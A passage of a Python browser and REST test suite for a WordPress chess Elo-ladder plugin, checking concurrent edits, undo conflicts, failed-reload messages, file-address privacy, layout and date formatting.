        expect(page.get_by_role("button", name="Edit 2026-09-01 Anna – Ben 0-1")).to_be_focused()
        page.keyboard.press("Enter")
        page.get_by_role("combobox", name="Result").select_option("1")
        page.get_by_role("button", name="Save", exact=True).click()
        expect(page.get_by_role("status")).to_contain_text("Saved: 2026-09-01 Anna – Ben 1-0")
        expect(september).to_contain_text("1-0")  # still found, as corrected
        find.fill("cleo")
        find.press("Enter")
        expect(page.get_by_text("100 of 201 games found, newest first.")).to_be_visible()
    finally:
        context.close()
    games = one(wordpress, users["editor"], "GET", route, {"search": "2026-09"})[1]
    assert [("2026-09-01", "1-0")] == [(g["date"], g["result"]) for g in games["games"]]


def test_a_result_entered_while_a_game_is_edited_keeps_its_edit_row_and_what_was_typed_in_it(
        browser: Browser, wordpress: WordPress, users: dict[str, int]) -> None:
    """A keeper paged to an older game, clicked its Edit, typed its right date, then entered a new result at the top:
    the page went back to the latest games, and the edit row with the date typed in it was gone. The page the game
    was found on stays, and its edit row with what was typed; so does the edit row of a page's oldest game, which
    the new result moved to the next page."""
    ladder, route = with_an_old_game(wordpress, users["editor"], "Edited meanwhile")
    context = log_in(browser, wordpress, *EDITOR)
    try:
        page = context.new_page()
        page.goto(keeper(wordpress, ladder['slug']))
        expect(page.get_by_role("heading", name="Games (201)")).to_be_visible()
        edited_date = page.locator(".elo-games input[name=date]")  # the edit row's: there is one at most

        def enter_result(day: str) -> None:
            page.locator("#elo-date").fill(day)
            page.locator("#elo-white").fill("Anna")
            page.locator("#elo-black").fill("Cleo")
            page.get_by_role("group", name="Result").get_by_role("button", name="White won 1-0").click()
            expect(page.get_by_role("status")).to_contain_text(f"Saved: {day} Anna – Cleo 1-0")

        page.get_by_role("button", name="Older games").click()
        expect(page.get_by_text("Page 2 of 2")).to_be_visible()
        page.get_by_role("button", name="Edit 2026-09-01 Anna – Ben 0-1").click()
        edited_date.fill("2026-09-02")
        enter_result("2026-12-01")
        expect(page.get_by_role("heading", name="Games (202)")).to_be_visible()
        expect(page.get_by_text("Page 2 of 2")).to_be_visible()
        expect(edited_date).to_have_value("2026-09-02")
        page.get_by_role("button", name="Save", exact=True).click()
        expect(page.get_by_role("status")).to_have_text("Saved: 2026-09-02 Anna – Ben 0-1 Undo")

        page.get_by_role("button", name="Newer games").click()
        expect(page.get_by_text("Page 1 of 2")).to_be_visible()
        oldest = page.locator(".elo-games > tbody > tr").last  # the page's oldest game, which the next result moves on
        oldest.get_by_role("button", name=re.compile(r"^Edit ")).click()
        edited_date.fill("2026-09-03")
        enter_result("2026-12-02")
        expect(page.get_by_role("heading", name="Games (203)")).to_be_visible()
        expect(edited_date).to_have_value("2026-09-03")
        page.get_by_role("button", name="Save", exact=True).click()
        expect(page.get_by_role("status")).to_contain_text("Saved: 2026-09-03 ")
    finally:
        context.close()
    games = one(wordpress, users["editor"], "GET", route, {"search": "2026-09"})[1]["games"]
    assert ["2026-09-02", "2026-09-03"] == [g["date"] for g in games]


# A read of the ladder that fails (a PHP fatal error, as WordPress answers it), and what the page says of it after a
# change the server made.
CRITICAL = {"code": "internal_server_error", "data": {"status": 500}, "additional_errors": [],
            "message": "<p>There has been a critical error on this website.</p>"}
NOT_READ_AGAIN = "This page could not be read again and does not show the change yet (There has been a critical " \
                 "error on this website.): reload it."


def test_a_change_saved_is_said_with_its_undo_when_the_page_cannot_be_read_again(
        browser: Browser, wordpress: WordPress, users: dict[str, int]) -> None:
    """A result saved, then the page's read of the ladder failed (a network blip, a PHP fatal error): the page said
    "Not loaded: …" alone, never "Saved … Undo", and the keeper, taking the result for not saved, entered it again:
    recorded twice. A result entered and a game deleted are said with their Undo, games pasted with their count, and
    the failed read after them; the result's players are emptied."""
    ladder, route = with_one_game(wordpress, users["editor"], "Unreadable after")
    critical, failed = CRITICAL, NOT_READ_AGAIN
    context = log_in(browser, wordpress, *EDITOR)
    try:
        page = context.new_page()
        page.goto(keeper(wordpress, ladder['slug']))
        expect(page.get_by_role("heading", name="Games (1)")).to_be_visible()
        page.route(lambda url: "rest_route" in url and ladder["slug"] in url and "history" not in url,
                   lambda r: r.fulfill(status=500, json=critical) if r.request.method == "GET" else r.continue_())
        said = page.get_by_role("status")
        undo = said.get_by_role("button", name="Undo")

        page.locator("#elo-date").fill("2026-03-02")
        page.locator("#elo-white").fill("Anna")
        page.locator("#elo-black").fill("Ben")
        page.get_by_role("group", name="Result").get_by_role("button", name="Draw ½-½").click()
        expect(said).to_have_text("Saved: 2026-03-02 Anna – Ben 1/2-1/2 Undo" + failed)
        expect(undo).to_be_visible()
        expect(page.locator("#elo-white")).to_have_value("")
        expect(page.locator("#elo-black")).to_have_value("")

        page.get_by_role("button", name="Delete 2026-03-01 Anna – Ben 1-0").click()
        expect(said).to_have_text("Deleted: 2026-03-01 Anna – Ben 1-0 Undo" + failed)
        expect(undo).to_be_focused()

        page.locator("#elo-paste").fill("2026-03-03,Ben,Anna,0")
        page.get_by_role("button", name="Add these games").click()
        expect(said).to_have_text("Added: 1 games, 0 new players. Undo" + failed)
    finally:
        context.close()
    games = one(wordpress, users["editor"], "GET", route)[1]["games"]
    assert [("2026-03-02", "1/2-1/2"), ("2026-03-03", "0-1")] == [(g["date"], g["result"]) for g in games]


@pytest.mark.parametrize("action", [
    "edit", "edit undone", "restore", "delete undone", "player added", "player changed"])
def test_every_other_change_saved_is_said_when_the_page_cannot_be_read_again(
        browser: Browser, wordpress: WordPress, users: dict[str, int], action: str) -> None:
    """hp104: a game edited (and its Undo), a game restored (from the history, or by a deletion's Undo), a player added
    or changed, then the page's read of the ladder failed: the page said "Not loaded: …" alone, and the keeper, taking
    the change for not saved, made it again (an edit sent twice; a player added again, refused: "Not saved"). Each is
    said as the server made it, with the failed read after it; the form acted on is left as after a read (an edit row
    closed, a new player's fields emptied, no Restore left in the history); what was typed elsewhere stays."""
    ladder, route = with_one_game(wordpress, users["editor"], f"Unreadable after {action}")
    game = one(wordpress, users["editor"], "GET", route)[1]["games"][0]
    if action == "restore":
        assert 200 == one(wordpress, users["editor"], "DELETE", f"{route}/games/{game['id']}")[0]
    context = log_in(browser, wordpress, *EDITOR)
    try:
        page = context.new_page()
        page.goto(keeper(wordpress, ladder['slug']))
        expect(page.get_by_role("heading", name=f"Games ({0 if action == 'restore' else 1})")).to_be_visible()
        said = page.get_by_role("status")
        paste = page.get_by_label("Paste results", exact=True)
        paste.fill("2026-03-04,Ben,Anna,1")  # typed elsewhere meanwhile: kept

        def unreadable() -> None:
            page.route(lambda url: "rest_route" in url and ladder["slug"] in url and "history" not in url,
                       lambda r: r.fulfill(status=500, json=CRITICAL) if r.request.method == "GET" else r.continue_())

        if action in ("edit", "edit undone"):
            page.get_by_role("button", name="Edit 2026-03-01 Anna – Ben 1-0").click()
            page.locator(".elo-games select[name=result]").select_option(label="Black won 0-1")
            if action == "edit":
                unreadable()
            page.get_by_role("button", name="Save", exact=True).click()
            if action == "edit":
                expect(said).to_have_text("Saved: 2026-03-01 Anna – Ben 0-1 Undo" + NOT_READ_AGAIN)
                expect(page.get_by_role("button", name="Save", exact=True)).to_have_count(0)  # the row closed
                expect(page.get_by_role("button", name="Edit 2026-03-01 Anna – Ben 1-0")).to_be_focused()
            else:
                expect(said).to_have_text("Saved: 2026-03-01 Anna – Ben 0-1 Undo")
                unreadable()
                said.get_by_role("button", name="Undo").click()
                expect(said).to_have_text("Saved: 2026-03-01 Anna – Ben 1-0" + NOT_READ_AGAIN)
            expected = "0-1" if action == "edit" else "1-0"
        elif action in ("restore", "delete undone"):
            if action == "restore":
                unreadable()
                page.locator("#elo-history").get_by_role("button", name="Restore 2026-03-01 Anna – Ben 1-0").click()
            else:
                page.get_by_role("button", name="Delete 2026-03-01 Anna – Ben 1-0").click()
                expect(said).to_have_text("Deleted: 2026-03-01 Anna – Ben 1-0 Undo")
                unreadable()
                said.get_by_role("button", name="Undo").click()
            expect(said).to_have_text("Restored: 2026-03-01 Anna – Ben 1-0" + NOT_READ_AGAIN)
            # The history read again: no Restore left to click a second time.
            expect(page.locator("#elo-history").get_by_role("button", name=re.compile("^Restore "))).to_have_count(0)
            expected = "1-0"
        elif action == "player added":
            page.locator("#elo-player-name").fill("Cleo")
            page.locator("#elo-player-rating").fill("1400")
            unreadable()
            page.get_by_role("button", name="Add player").click()
            expect(said).to_have_text("Saved: Cleo" + NOT_READ_AGAIN)
            expect(page.locator("#elo-player-name")).to_have_value("")  # not added twice by a second click
            expect(page.locator("#elo-player-rating")).to_have_value("")
            expect(page.locator("#elo-player-name")).to_be_focused()
            expected = "1-0"
        else:
            rating = page.get_by_label("Start rating (empty: the ladder's) Anna", exact=True)
            unreadable()
            rating.fill("1500")
            rating.press("Tab")
            expect(said).to_have_text("Saved: Anna" + NOT_READ_AGAIN)
            expect(rating).to_have_value("1500")
            # Changed again, the page not read since: it expects the rating it saved, not its own first one (it was
            # refused as another keeper's change).
            said.evaluate("(status) => status.replaceChildren()")
            rating.fill("1550")
            rating.press("Tab")
            expect(said).to_have_text("Saved: Anna" + NOT_READ_AGAIN)
            expected = "1-0"
        expect(paste).to_have_value("2026-03-04,Ben,Anna,1")
    finally:
        context.close()
    got = one(wordpress, users["editor"], "GET", route)[1]
    assert [("2026-03-01", expected)] == [(g["date"], g["result"]) for g in got["games"]]
    players = {p["name"]: p for p in got["players"]}
    assert (["Anna", "Ben", "Cleo"] if action == "player added" else ["Anna", "Ben"]) == sorted(players)
    if action == "player changed":
        assert 1550 == float(players["Anna"]["rating"])


def test_a_ladder_s_files_have_an_address_its_name_does_not_give_and_the_page_says_they_are_public(
        admin: BrowserContext, wordpress: WordPress, users: dict[str, int]) -> None:
    """A junior ladder shown only on a private or password-protected page was read by anyone: its files' address,
    …/uploads/elo-calculator/<slug>/players.csv, is made from its name. A new ladder's folder has a random part, the
    ladders' folder lists none, and the admin page says the files are public; a ladder made before keeps its address
    and is told its address can be guessed."""
    answers = rest(wordpress, users["editor"], ("POST", "/ladders", {"name": "Juniors U12"}),
                   ("POST", "/ladders", {"name": "Juniors U12"}))
    assert [201, 201] == [status for status, _ in answers]
    (_, juniors), (_, again) = answers
    base = f"{wordpress.origin}/wp-content/uploads/elo-calculator/"
    folders = [ladder["csv_url"].removeprefix(base).split("/")[0] for ladder in (juniors, again)]
    assert re.fullmatch(r"juniors-u12-[a-z0-9]{16}", folders[0]) and re.fullmatch(r"juniors-u12-2-[a-z0-9]{16}",
                                                                                     folders[1]), folders
    assert folders[0][-16:] != folders[1][-16:]
    assert (base + folders[0] + "/players.csv", False) == (juniors["players_url"], juniors["files_named"])
    assert fetched(juniors["players_url"]).startswith(b"\xef\xbb\xbfid,name,rating,active")
    with pytest.raises(urllib.error.HTTPError) as guessed:
        fetched(base + juniors["slug"] + "/players.csv")
    assert 404 == guessed.value.code
    assert b"juniors" not in fetched(base)  # no list of the folders

    # A ladder made before a ladder had a folder of its own (its column empty) keeps its files' address.
    status, old = one(wordpress, users["editor"], "POST", "/ladders", {"name": "Seniors"})
    assert 201 == status
    wordpress.php("global $wpdb; $wpdb->update(elo_calculator_table('ladders'), array('folder' => ''), "
                  "array('slug' => " + php_quote(old["slug"]) + "));", as_web=True)
    status, old = one(wordpress, users["editor"], "POST", f"/ladders/{old['slug']}/players", {"name": "Sam"})
    status, old = one(wordpress, users["editor"], "GET", "/ladders/seniors")
    assert (base + "seniors/games.csv", True) == (old["csv_url"], old["files_named"])
    assert b"Sam" in fetched(old["players_url"])

    page = admin.new_page()
    try:
        page.goto(keeper(wordpress, juniors['slug']))
        expect(page.get_by_text("a private or password-protected page keeps its visitors from the ladder, not from "
                                "its files. Their address has a random part")).to_be_visible()
        page.goto(keeper(wordpress, "seniors"))
        expect(page.get_by_text("This ladder's files have an address made from its name, which anyone may guess"))\
            .to_be_visible()
    finally:
        page.close()


def test_a_stale_undo_or_delete_leaves_another_keeper_s_newer_change_and_says_so(
        browser: Browser, wordpress: WordPress, users: dict[str, int]) -> None:
    """hp107: keeper B made a game a draw, keeper A in another tab corrected it to 0-1, B clicked Undo: the game went
    back to 1-0, A's correction gone; an entered result's Undo deleted the game A had corrected. A change from the page
    says what it expects the game to be now; the server refuses (409) a game changed since, and the page says so and
    reads it again. A request without the expectation (a club's script) is taken as before."""
    ladder, route = with_one_game(wordpress, users["editor"], "Two keepers")
    context = log_in(browser, wordpress, *EDITOR)
    try:
        page = context.new_page()
        page.goto(keeper(wordpress, ladder['slug']))
        expect(page.get_by_role("heading", name="Games (1)")).to_be_visible()
        said = page.get_by_role("status")
        game_id = one(wordpress, users["editor"], "GET", route)[1]["games"][0]["id"]

        # B makes it a draw; A corrects it to 0-1; B's Undo leaves A's 0-1.
        page.get_by_role("button", name="Edit 2026-03-01 Anna – Ben 1-0").click()
        page.locator(".elo-games select[name=result]").select_option("0.5")
        page.get_by_role("button", name="Save", exact=True).click()
        expect(said).to_contain_text("Saved: 2026-03-01 Anna – Ben 1/2-1/2")
        assert 200 == one(wordpress, 1, "PUT", f"{route}/games/{game_id}", {"result": "0"})[0]
        said.get_by_role("button", name="Undo").click()
        expect(said).to_contain_text("changed by someone else")
        expect(page.get_by_role("button", name="Edit 2026-03-01 Anna – Ben 0-1")).to_be_visible()  # read again
        assert ["0-1"] == [g["result"] for g in one(wordpress, users["editor"], "GET", route)[1]["games"]]

        # B enters a result; A corrects it; B's Undo does not delete it.
        page.locator("#elo-date").fill("2026-03-02")
        page.locator("#elo-white").fill("Anna")
        page.locator("#elo-black").fill("Ben")
        page.get_by_role("group", name="Result").get_by_role("button", name="White won 1-0").click()
        expect(said).to_contain_text("Saved: 2026-03-02 Anna – Ben 1-0")
        games = one(wordpress, users["editor"], "GET", route)[1]["games"]
        entered = next(g for g in games if g["date"] == "2026-03-02")
        assert 200 == one(wordpress, 1, "PUT", f"{route}/games/{entered['id']}", {"result": "0.5"})[0]
        said.get_by_role("button", name="Undo").click()
        expect(said).to_contain_text("changed by someone else")
        expect(page.get_by_role("button", name="Edit 2026-03-02 Anna – Ben 1/2-1/2")).to_be_visible()
        games = one(wordpress, users["editor"], "GET", route)[1]["games"]
        assert [("2026-03-01", "0-1"), ("2026-03-02", "1/2-1/2")] == [(g["date"], g["result"]) for g in games]
    finally:
        context.close()

    # The routes: an expectation met is taken, one not met refused naming nothing changed, none taken as before.
    game = f"{route}/games/{entered['id']}"
    answers = rest(wordpress, users["editor"], ("PUT", game, {"result": "1", "expect": {"result": "1-0"}}),
                   ("DELETE", game, {"expect": {"result": "1-0", "white": "Anna"}}),
                   ("PUT", game, {"result": "1", "expect": {"result": "0.5"}}),
                   ("PUT", game, {"result": "0", "expect": "1-0"}),
                   ("PUT", game, {"result": "0", "expect": {"result": "1/2-1/2"}}),
                   ("DELETE", game, None))
    assert [409, 409, 200, 400, 409, 200] == [s for s, _ in answers], answers
    assert "elo_calculator_changed_since" == answers[0][1]["code"]
    assert "1-0" == answers[2][1]["result"]
    assert [("2026-03-01", "0-1")] == [(g["date"], g["result"])
                                       for g in one(wordpress, users["editor"], "GET", route)[1]["games"]]


def test_the_keyboard_stays_on_the_page_after_an_undo_and_after_saving_the_rules(
        browser: Browser, wordpress: WordPress, users: dict[str, int]) -> None:
    """hp107: after every Undo and after "Save name and rules" the keyboard fell to the page's start (document.body):
    the Undo's button was replaced by what was said, and the rules' button was drawn anew. The keyboard goes to what
    is said (the status, focusable) after an Undo, and stays on the rules' Save."""
    ladder, _ = with_one_game(wordpress, users["editor"], "Keyboard keeper")
    context = log_in(browser, wordpress, *EDITOR)
    try:
        page = context.new_page()
        page.goto(keeper(wordpress, ladder['slug']))
        expect(page.get_by_role("heading", name="Games (1)")).to_be_visible()
        said = page.get_by_role("status")
        on_body = "document.activeElement === document.body || document.activeElement === null"

        page.locator("#elo-white").fill("Anna")
        page.locator("#elo-black").fill("Ben")
        page.get_by_role("group", name="Result").get_by_role("button", name="Draw ½-½").click()
        expect(page.get_by_role("heading", name="Games (2)")).to_be_visible()
        said.get_by_role("button", name="Undo").focus()
        page.keyboard.press("Enter")
        expect(said).to_contain_text("Deleted: ")
        expect(said).to_be_focused()
        assert not page.evaluate(on_body)

        page.get_by_role("button", name="Edit 2026-03-01 Anna – Ben 1-0").click()
        page.locator(".elo-games select[name=result]").select_option("0")
        page.get_by_role("button", name="Save", exact=True).click()
        expect(said).to_contain_text("Saved: 2026-03-01 Anna – Ben 0-1")
        said.get_by_role("button", name="Undo").click()
        expect(said).to_have_text("Saved: 2026-03-01 Anna – Ben 1-0")
        expect(said).to_be_focused()

        page.get_by_role("button", name="Delete 2026-03-01 Anna – Ben 1-0").click()
        expect(said.get_by_role("button", name="Undo")).to_be_focused()
        page.keyboard.press("Enter")
        expect(said).to_contain_text("Restored: ")
        expect(said).to_be_focused()

        save = page.get_by_role("button", name="Save name and rules")
        page.locator("#elo-rule-name").fill("Keyboard keeper 2")
        save.focus()
        page.keyboard.press("Enter")
        expect(said).to_have_text("Saved: Keyboard keeper 2")
        expect(save).to_be_focused()
    finally:
        context.close()


def test_saving_the_rules_during_a_search_keeps_the_games_found_and_an_open_edit_row(
        browser: Browser, wordpress: WordPress, users: dict[str, int]) -> None:
    """hp107: the rules saved while a search showed one game found: the list became the latest 200 games, under
    "1 of 201 games found", and the open edit row was gone. The page found, and the edit row with what was typed in
    it, stay."""
    ladder, route = with_an_old_game(wordpress, users["editor"], "Rules while searching")
    context = log_in(browser, wordpress, *EDITOR)
    try:
        page = context.new_page()
        page.goto(keeper(wordpress, ladder['slug']))
        expect(page.get_by_role("heading", name="Games (201)")).to_be_visible()
        find = page.get_by_role("searchbox", name="Find games (a player's name or id, or a date such as 2026-09)")
        find.fill("2026-09")
        find.press("Enter")
        expect(page.get_by_text("1 of 201 games found, newest first.")).to_be_visible()
        page.get_by_role("button", name="Edit 2026-09-01 Anna – Ben 0-1").click()
        page.locator(".elo-games input[name=date]").fill("2026-09-02")
        page.locator("#elo-rule-k").fill("20")
        page.get_by_role("button", name="Save name and rules").click()
        expect(page.get_by_role("status")).to_have_text("Saved: Rules while searching")
        expect(page.get_by_text("1 of 201 games found, newest first.")).to_be_visible()
        expect(page.locator(".elo-games > tbody > tr")).to_have_count(1)
        expect(page.locator(".elo-games input[name=date]")).to_have_value("2026-09-02")
        expect(find).to_have_value("2026-09")
    finally:
        context.close()
    assert "20" == one(wordpress, users["editor"], "GET", route)[1]["rules"]["k"]


def test_a_player_with_a_name_longer_than_an_id_is_added_with_an_id_cut_to_fit(
        browser: Browser, wordpress: WordPress, users: dict[str, int]) -> None:
    """hp107: a player named in 66 characters, the optional Id left empty, was refused ("id: at most 64 characters")
    unless the keeper made an id up. The id is the name cut to fit, with ~2 when another player has it already; the
    page says the id given; a name of the most characters (100) is taken."""
    status, ladder = one(wordpress, users["editor"], "POST", "/ladders", {"name": "Long names"})
    assert 201 == status
    route = f"/ladders/{ladder['slug']}/players"
    long = "Maximilian Alexander von Hohenzollern-Sigmaringen und WittelsbachX"  # 66
    assert 66 == len(long)
    answers = rest(wordpress, users["editor"], ("POST", route, {"name": long, "id": ""}),
                   ("POST", route, {"name": long[:64] + "ZZ"}), ("POST", route, {"name": "n" * 100}))
    assert [201, 201, 201] == [s for s, _ in answers], answers
    assert [long[:64], long[:62] + "~2", "n" * 64] == [p["id"] for _, p in answers]
    assert 201 == one(wordpress, users["editor"], "POST", f"/ladders/{ladder['slug']}/games",
                      {"date": "2026-03-01", "white": long, "black": long[:64] + "ZZ", "result": "1"})[0]
    context = log_in(browser, wordpress, *EDITOR)
    try:
        page = context.new_page()
        page.goto(keeper(wordpress, ladder['slug']))
        expect(page.get_by_role("heading", name="Players (3)")).to_be_visible()
        name = "Leopoldine Wilhelmine Friederike Charlotte von Mecklenburg-Strelitz zu H"  # 72
        page.locator("#elo-player-name").fill(name)
        page.get_by_role("button", name="Add player").click()
        expect(page.get_by_role("status")).to_have_text(f"Saved: {name} (their id: {name[:64]})")
        expect(page.get_by_role("heading", name="Players (4)")).to_be_visible()
    finally:
        context.close()


def test_a_long_named_ladder_s_pages_fit_a_phone(
        browser: Browser, wordpress: WordPress, users: dict[str, int]) -> None:
    """hp107: at 375 px a ladder named in 100 characters without a space made its page 900 px wide, and the list of
    ladders 795 px (its shortcode in the table); headings and history lines ran past the screen. Both pages are no
    wider than the phone: long words wrap, the list's table scrolls in its own box."""
    name = "Vereinsmeisterschaftsrangliste" * 3 + "Schnellschach"[:10]
    assert 100 == len(name)
    status, ladder = one(wordpress, users["editor"], "POST", "/ladders", {"name": name})
    assert 201 == status
    route = f"/ladders/{ladder['slug']}"
    player = "Maximilian-Alexander-von-Hohenzollern-Sigmaringen-Wittelsbach"
    assert 200 == one(wordpress, users["editor"], "POST", route + "/import",
                      {"games": f"2026-03-01,{player},Ben,1-0\n"})[0]
    context = log_in(browser, wordpress, *EDITOR)
    try:
        page = context.new_page()
        page.set_viewport_size({"width": 375, "height": 800})
        page.goto(keeper(wordpress))
        expect(page.get_by_role("link", name=name)).to_be_visible()
        assert page.evaluate("document.documentElement.scrollWidth") <= 375
        page.goto(keeper(wordpress, ladder['slug']))
        expect(page.get_by_role("heading", name=name)).to_be_visible()
        expect(page.locator("#elo-history li")).to_have_count(2)
        assert page.evaluate("document.documentElement.scrollWidth") <= 375
    finally:
        context.close()


def test_the_admin_page_shows_dates_in_the_site_s_date_format(
        browser: Browser, wordpress: WordPress, users: dict[str, int]) -> None:
    """hp107: a German club's site writes dates "j. F Y"; the list's "Last updated", the games and the history showed
    2026-03-01 all the same. They are written as the site's settings say (the date fields stay as the browser has
    them)."""
    ladder, route = with_one_game(wordpress, users["editor"], "German dates")
    wordpress.php("update_option('date_format', 'j. F Y'); update_option('time_format', 'G:i');")
    try:
        updated = one(wordpress, users["editor"], "GET", route)[1]["updated"]
        day, when = json.loads(wordpress.php(
            f"$t = strtotime({php_quote(updated)}); echo wp_json_encode(array(wp_date('j. F Y', $t), "
            "wp_date('j. F Y G:i', $t)));"))
        context = log_in(browser, wordpress, *EDITOR)
        try:
            page = context.new_page()
            page.goto(keeper(wordpress))
            row = page.get_by_role("row").filter(has=page.get_by_role("link", name="German dates", exact=True))
            expect(row.get_by_role("cell").last).to_have_text(day)
            page.goto(keeper(wordpress, ladder['slug']))
            expect(page.locator(".elo-games > tbody > tr > td").first).to_have_text("1. March 2026")
            expect(page.get_by_role("button", name="Edit 1. March 2026 Anna – Ben 1-0")).to_be_visible()
            expect(page.locator("#elo-history li").first).to_have_text(re.compile("^" + re.escape(when) + " · "))
            page.get_by_role("button", name="Edit 1. March 2026 Anna – Ben 1-0").click()
            expect(page.locator(".elo-games input[name=date]")).to_have_value("2026-03-01")
        finally:
            context.close()
    finally:
        wordpress.php("update_option('date_format', 'Y-m-d'); update_option('time_format', 'H:i');")


def test_an_edit_refused_as_changed_by_someone_else_keeps_its_row_open_with_what_was_typed(
        browser: Browser, wordpress: WordPress, users: dict[str, int]) -> None:
    """hp108: keeper A typed a game's new date and result in its edit row; keeper B changed the game meanwhile; A's
    Save was refused (409) and the row closed, what A typed lost, while the page read the game again. The page now
    reads it again and keeps the row open with A's values, the game as B left it said, and A's Save again, which
    expects the game as just read, is taken (B's pool, which A did not touch, stays)."""
    ladder, route = with_one_game(wordpress, users["editor"], "Two keepers edit")
    game_id = one(wordpress, users["editor"], "GET", route)[1]["games"][0]["id"]
    context = log_in(browser, wordpress, *EDITOR)
    try:
        page = context.new_page()
        page.goto(keeper(wordpress, ladder['slug']))
        expect(page.get_by_role("heading", name="Games (1)")).to_be_visible()
        said = page.get_by_role("status")
        page.get_by_role("button", name="Edit 2026-03-01 Anna – Ben 1-0").click()
        date = page.locator(".elo-games input[name=date]")
        result = page.locator(".elo-games select[name=result]")
        date.fill("2026-03-05")
        result.select_option("0.5")

        # B makes it 0-1 in pool B; A's Save is refused, A's values kept in the open row, B's game said.
        assert 200 == one(wordpress, 1, "PUT", f"{route}/games/{game_id}", {"result": "0", "pool": "B"})[0]
        page.get_by_role("button", name="Save", exact=True).click()
        expect(said).to_contain_text("changed by someone else")
        expect(page.locator(".elo-games input[name=pool]")).to_have_value("B")  # the row open, read again: B's pool
        expect(date).to_have_value("2026-03-05")
        expect(result).to_have_value("0.5")
        expect(said).to_contain_text("2026-03-01 Anna – Ben 0-1")
        expect(said).to_contain_text("Your values are kept below")
        expect(date).to_be_focused()
        expect(page.locator("#elo-refused")).to_contain_text("Your values are kept below")
        assert [("2026-03-01", "0-1", "B")] == [(g["date"], g["result"], g["pool"])
                                              for g in one(wordpress, users["editor"], "GET", route)[1]["games"]]

        # A saves again: taken, expecting the game as read again.
        page.get_by_role("button", name="Save", exact=True).click()
        expect(said).to_contain_text("Saved: 2026-03-05 Anna – Ben 1/2-1/2")
        expect(page.get_by_role("button", name="Edit 2026-03-05 Anna – Ben 1/2-1/2")).to_be_focused()
        assert [("2026-03-05", "1/2-1/2", "B")] == [(g["date"], g["result"], g["pool"])
                                                    for g in one(wordpress, users["editor"], "GET", route)[1]["games"]]
    finally:
        context.close()


def test_a_player_with_no_game_is_removed_and_a_player_s_change_meets_the_player_as_read(
        wordpress: WordPress, users: dict[str, int]) -> None:
    """hp115: a player typed by mistake ("Bbo" for Bob) stayed on the public ladder for good: no route removed one.
    A player with no game is now removed (with the deleted games that named them); one with games stays, the
    refusal saying how many. Two keepers renaming one player each saw "Saved" and the first's name was lost: a change
    sent with what it expects the player to be is refused (409) once another keeper changed them. An id sent as a JSON
    number of 20 digits was kept as "1.2345678901235E+19"; it is refused, naming the field."""
    _, route = with_one_game(wordpress, users["editor"], "Remove a player")
    answers = rest(wordpress, users["editor"],
                   ("POST", route + "/players", {"name": "Bbo"}),
                   ("POST", route + "/games", {"date": "2026-03-02", "white": "Bbo", "black": "Anna", "result": "1"}))
    assert [201, 201] == [status for status, _ in answers], answers
    bbo_game = answers[1][1]["id"]
    answers = rest(wordpress, users["editor"],
                   ("GET", route, None),
                   ("DELETE", route + "/players", {"id": "Bbo"}),  # a game names them
                   ("DELETE", f"{route}/games/{bbo_game}", None),
                   ("GET", route, None),
                   ("DELETE", route + "/players", {"id": "Anna"}),  # Anna – Ben 1-0 stays
                   ("DELETE", route + "/players", {"id": "Bbo"}),
                   ("DELETE", route + "/players", {"id": "Bbo"}),
                   ("POST", f"{route}/games/{bbo_game}/restore", None),
                   ("GET", route, None))
    assert [200, 409, 200, 200, 409, 200, 404, 404, 200] == [status for status, _ in answers], answers
    assert {"Anna", "Ben", "Bbo"} == set(answers[0][1]["playing"])
    assert {"Anna", "Ben"} == set(answers[3][1]["playing"])  # Bbo's one game deleted
    assert ("id", "Bbo has games on the ladder (1): a player with games stays; untick Active to take them off the "
            "ranking.") == (answers[1][1]["data"]["field"], answers[1][1]["message"])
    assert "(1)" in answers[4][1]["message"]
    assert ["Anna", "Ben"] == [p["id"] for p in answers[8][1]["players"]]
    assert ["2026-03-01 Anna Ben 1-0"] == [f"{g['date']} {g['white']} {g['black']} {g['result']}"
                                          for g in answers[8][1]["games"]]
    history = one(wordpress, users["editor"], "GET", route + "/history")[1]
    assert ("removed", "Bbo", "Sam Secretary") == (history[0]["action"], history[0]["detail"]["before"]["name"],
                                                   history[0]["who"])
    assert not any(entry["restorable"] for entry in history)  # Bbo's deleted game went with them

    # Two keepers: the one whose page still shows "Anna" is refused once the other renamed her.
    answers = rest(wordpress, users["editor"],
                   ("PUT", route + "/players", {"id": "Anna", "name": "Anna Berg", "expect": {"name": "Anna"}}),
                   ("PUT", route + "/players", {"id": "Anna", "name": "Anna Bergmann", "expect": {"name": "Anna"}}),
                   ("PUT", route + "/players",
                    {"id": "Anna", "rating": "1700", "expect": {"rating": "", "active": True}}),
                   ("PUT", route + "/players", {"id": "Anna", "active": False, "expect": {"active": False}}),
                   ("PUT", route + "/players", {"id": "Anna", "name": "A", "expect": "Anna"}),
                   ("PUT", route + "/players", {"id": "Anna", "name": "Anna B."}))  # a club's script: as before
    assert [200, 409, 200, 409, 400, 200] == [status for status, _ in answers], answers
    assert ("elo_calculator_changed_since", "name") == (answers[1][1]["code"], answers[1][1]["data"]["field"])
    assert "(now: Anna Berg)" in answers[1][1]["message"]
    assert ("Anna B.", "1700", True) == tuple(answers[5][1][k] for k in ("name", "rating", "active"))

    # Ids as JSON numbers: whole numbers as their digits; one that lost its digits refused at its field.
    answers = rest(wordpress, users["editor"],
                   ("POST", route + "/players", {"name": "Dave", "id": 12345678901234567890}),
                   ("POST", route + "/players", {"name": "Eve", "id": 1.5}),
                   ("POST", route + "/players", {"name": 2026}))
    assert [400, 400, 201] == [status for status, _ in answers], answers
    assert ["id", "id"] == [answers[i][1]["data"]["field"] for i in (0, 1)]
    assert "send it as text, in quotes" in answers[0][1]["message"]
    assert ("2026", "2026") == (answers[2][1]["id"], answers[2][1]["name"])


def test_the_history_keeps_the_name_of_a_keeper_since_deleted(wordpress: WordPress, users: dict[str, int]) -> None:
    """hp115: once the keeper's WordPress user was deleted, the history said "2026-12-07 15:34 ·  · result entered":
    who entered it was gone. The name is kept with each change, and said once the user is gone."""
    made = json.loads(wordpress.php(
        "$id = wp_insert_user(array('user_login' => 'leaving', 'user_pass' => 'a-leaving-password-1', "
        "'role' => 'editor', 'display_name' => 'Lee Leaving')); echo wp_json_encode($id);"))
    _, route = with_one_game(wordpress, int(made), "A keeper leaves")
    assert "Lee Leaving" == one(wordpress, users["editor"], "GET", route + "/history")[1][0]["who"]
    wordpress.php(f"require_once ABSPATH . 'wp-admin/includes/user.php'; wp_delete_user({int(made)});")
    history = one(wordpress, users["editor"], "GET", route + "/history")[1]
    assert ["Lee Leaving", "Lee Leaving"] == [entry["who"] for entry in history]


def test_a_players_file_alone_adds_a_season_s_players_and_an_import_s_changes_are_in_the_history(
        wordpress: WordPress, users: dict[str, int]) -> None:
